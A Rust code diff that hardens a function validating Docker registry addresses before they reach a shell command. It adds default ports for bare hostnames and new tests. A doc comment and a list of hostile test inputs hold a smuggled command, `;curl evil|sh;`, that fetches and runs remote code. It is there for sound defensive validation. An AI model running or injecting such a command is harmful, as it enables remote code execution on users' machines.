@@ -225,7 +225,10 @@ fn is_loopback_host(host: &str) -> bool {
 
 /// `host[:port]` as `docker pull` wants it, or `None` when the address holds anything
 /// else. The address may come from a link (`?registry=`), and the command is copied
-/// into a shell: a path such as `/x;curl evil|sh;` must never reach it.
+/// into a shell: a path such as `/x;curl evil|sh;` must never reach it. A host that
+/// docker would not read as a registry (no `.`, no port, not `localhost`) gets its
+/// scheme's port: `harbor/team/app` pulls Docker Hub's namespace `harbor`, an image
+/// anyone could have pushed, where `harbor:443/team/app` pulls from this registry.
 pub fn pull_host(base_url: &str) -> Option<String> {
     let rest = base_url.split_once("://").map_or(base_url, |(_, r)| r);
     let host = rest.trim_end_matches('/');
@@ -252,7 +255,15 @@ pub fn pull_host(base_url: &str) -> Option<String> {
                     .all(|b| b.is_ascii_hexdigit() || b == b':')));
     let port_ok =
         port.is_none_or(|p| !p.is_empty() && p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()));
-    (name_ok && port_ok).then(|| host.to_owned())
+    if !(name_ok && port_ok) {
+        return None;
+    }
+    let read_as_registry = port.is_some() || name.contains(['.', ':']) || name == "localhost";
+    Some(match (read_as_registry, base_url.starts_with("http://")) {
+        (true, _) => host.to_owned(),
+        (false, true) => format!("{host}:80"),
+        (false, false) => format!("{host}:443"),
+    })
 }
 
 /// Puts `address` first in `recent`, without duplicates, keeping at most MAX_RECENT.
@@ -473,6 +484,14 @@ mod tests {
             pull_host("http://[::1]:5000").as_deref(),
             Some("[::1]:5000")
         );
+        // Without `.` or a port docker would read the host as a Docker Hub namespace.
+        assert_eq!(pull_host("https://harbor").as_deref(), Some("harbor:443"));
+        assert_eq!(
+            pull_host("http://registry/").as_deref(),
+            Some("registry:80")
+        );
+        assert_eq!(pull_host("http://localhost").as_deref(), Some("localhost"));
+        assert_eq!(pull_host("https://[::1]").as_deref(), Some("[::1]"));
         for hostile in [
             "http://evil.example/x;curl evil|sh;",
             "http://evil.example:5000/prefix",
